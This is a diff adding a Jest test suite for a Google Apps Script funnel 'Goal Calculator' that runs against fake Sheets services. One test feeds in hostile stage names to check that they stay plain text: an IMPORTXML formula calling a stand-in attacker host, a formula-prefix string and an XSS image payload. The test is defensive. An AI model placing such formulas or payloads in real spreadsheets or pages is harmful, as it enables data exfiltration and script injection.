@@ -1,0 +1,164 @@
+/**
+ * The goal calculator as Apps Script runs it: the built dist/server.js in a node:vm with
+ * only the fake services, calling the generated top-level `buildGoalCalculator`.
+ */
+import { planFunnel } from '../../src/funnel/planner';
+import type { Plan } from '../../src/funnel/types';
+import { goalCalculatorCells } from '../../src/layout/goalCalculator';
+import { createFakeAppsScript, type FakeAppsScript } from '../fake';
+import { loadBundle } from '../support/bundle';
+import { comparable, readGoalCalculator } from '../support/goalCalculatorReader';
+import { examplePlan, planWithStages } from '../support/plans';
+
+function runInBundle(plan: unknown, fake: FakeAppsScript = createFakeAppsScript()) {
+  const runtime = loadBundle(fake.globals);
+  fake.log.reset();
+  const name = runtime.call('buildGoalCalculator', plan);
+  return { fake, name };
+}
+
+function readSheet(fake: FakeAppsScript, sheetName: string) {
+  const sheet = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(sheetName);
+  if (!sheet) throw new Error(`no sheet ${sheetName}`);
+  return { sheet, read: (a1: string) => sheet.getRange(a1).getValue() };
+}
+
+describe('buildGoalCalculator from the built bundle, against the fake Sheets', () => {
+  it('writes a "Goal Calculator" sheet that evaluates to the planner\'s numbers', () => {
+    const { fake, name } = runInBundle(examplePlan);
+    expect(name).toBe('Goal Calculator');
+    const { read } = readSheet(fake, 'Goal Calculator');
+    expect(comparable(readGoalCalculator(examplePlan, read))).toEqual(
+      comparable(planFunnel(examplePlan)),
+    );
+  });
+
+  it('shows the figures in formats a person reads at once', () => {
+    const { fake } = runInBundle(examplePlan);
+    const { sheet } = readSheet(fake, 'Goal Calculator');
+    const cells = goalCalculatorCells(examplePlan);
+    const shown = (a1: string) => sheet.getRange(a1).getDisplayValue();
+    expect([
+      shown(cells.inputs.revenueTarget),
+      shown(cells.stages[0].conversionToNext ?? ''),
+      shown(cells.stages[0].needed),
+    ]).toEqual(['$1,200,000', '2.0%', '80,000']);
+    expect([
+      shown(cells.money.marketingBudget),
+      shown(cells.money.pipelineCoverage),
+      shown(cells.inputs.salesCycleDays),
+    ]).toEqual(['$192,000', '4.0x', '60 days']);
+    expect(shown(cells.months.arrivalMonth.split(':')[0])).toBe('Month -1');
+  });
+
+  it('marks the inputs as the cells to edit, with notes, and draws the funnel chart', () => {
+    const { fake } = runInBundle(examplePlan);
+    const { sheet } = readSheet(fake, 'Goal Calculator');
+    const cells = goalCalculatorCells(examplePlan);
+    const target = sheet.getRange(cells.inputs.revenueTarget);
+    expect(target.getBackgrounds()).toEqual([['#fff2cc']]);
+    expect(target.getNotes()[0][0]).toMatch(/revenue to win/);
+    expect(sheet.getRange(cells.needed).getBackgrounds().flat()).not.toContain('#fff2cc');
+    const [chart] = sheet.getCharts();
+    expect(chart.getOptions().get('title')).toBe('Funnel: needed per stage');
+    expect(chart.getRanges().map((range) => range.getA1Notation())).toEqual([
+      cells.stageNames,
+      cells.needed,
+    ]);
+    expect(sheet.getConditionalFormatRules()).toHaveLength(2);
+  });
+
+  it('makes the same number of service calls for 3 stages as for 10, at most 20', () => {
+    const callsFor = (plan: Plan) => {
+      const { fake } = runInBundle(plan);
+      return {
+        document: fake.log.documentCalls,
+        builder: fake.log.builderCalls,
+        byName: fake.log.countsByName(),
+      };
+    };
+    const three = callsFor(planWithStages(3));
+    const ten = callsFor(planWithStages(10, { period: 'month' }));
+    expect(ten).toEqual(three);
+    expect(three.document).toBeLessThanOrEqual(20);
+    expect(three.byName['Range.setValues']).toBe(1);
+  });
+
+  it('never touches an existing "Goal Calculator": it writes "Goal Calculator (2)"', () => {
+    const fake = createFakeAppsScript({ sheetNames: ['Sheet1', 'Goal Calculator'] });
+    const existing = fake.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Goal Calculator');
+    existing?.getRange('A1:B2').setValues([
+      ['My own notes', 42],
+      ['=B1*2', "'keep"],
+    ]);
+    const before = existing?.getRange('A1:Z60').getFormulas();
+    const beforeValues = existing?.getRange('A1:Z60').getValues();
+
+    const { name } = runInBundle(examplePlan, fake);
+
+    expect(name).toBe('Goal Calculator (2)');
+    expect(existing?.getRange('A1:Z60').getFormulas()).toEqual(before);
+    expect(existing?.getRange('A1:Z60').getValues()).toEqual(beforeValues);
+    expect(existing?.getCharts()).toHaveLength(0);
+    expect(
+      fake.SpreadsheetApp.getActiveSpreadsheet()
+        .getSheets()
+        .map((sheet) => sheet.getName()),
+    ).toEqual(['Sheet1', 'Goal Calculator', 'Goal Calculator (2)']);
+    expect(fake.SpreadsheetApp.getActiveSheet().getName()).toBe('Goal Calculator (2)');
+  });
+
+  it('keeps hostile stage names as text in the sheet', () => {
+    const hostile = [
+      '=IMPORTXML("http://evil.example/", "//a")',
+      '+1',
+      '<img src=x onerror=alert(1)>',
+      "'quoted",
+      'Customers',
+    ];
+    const plan: Plan = {
+      ...examplePlan,
+      stages: hostile.map((stageName, index) =>
+        index < hostile.length - 1
+          ? { name: stageName, conversionToNext: 0.5 }
+          : { name: stageName },
+      ),
+    };
+    const { fake } = runInBundle(plan);
+    const { sheet } = readSheet(fake, 'Goal Calculator');
+    const names = goalCalculatorCells(plan).stageNames;
+    expect(sheet.getRange(names).getValues().flat()).toEqual(hostile);
+    expect(sheet.getRange(names).getFormulas().flat()).toEqual(['', '', '', '', '']);
+    expect(comparable(readGoalCalculator(plan, (a1) => sheet.getRange(a1).getValue()))).toEqual(
+      comparable(planFunnel(plan)),
+    );
+  });
+
+  it('writes nothing for a bad plan and names every bad field in one error', () => {
+    const fake = createFakeAppsScript();
+    const runtime = loadBundle(fake.globals);
+    fake.log.reset();
+    const bad = {
+      ...examplePlan,
+      revenueTarget: -1,
+      period: 'week',
+      stages: [{ name: '', conversionToNext: 30 }, { name: 'Customers' }],
+    };
+    let message = '';
+    try {
+      runtime.call('buildGoalCalculator', bad);
+    } catch (error) {
+      message = (error as Error).message;
+    }
+    expect(message.split('\n')).toEqual([
+      'The plan has 5 problems:',
+      '- revenueTarget is -1; enter an amount greater than 0 and at most 1000000000000',
+      '- period is "week"; enter "month", "quarter" or "year"',
+      '- stages.0.name is ""; enter the stage name as text of 1 to 60 characters',
+      '- stages.0.conversionToNext is 30; enter a fraction greater than 0 and at most 1: for 30% enter 0.3',
+      '- leadStageIndex is 1; enter the position of a stage before customers, from 0 to 0',
+    ]);
+    expect(fake.log.calls).toEqual([]);
+    expect(fake.SpreadsheetApp.getActiveSpreadsheet().getSheets()).toHaveLength(1);
+  });
+});
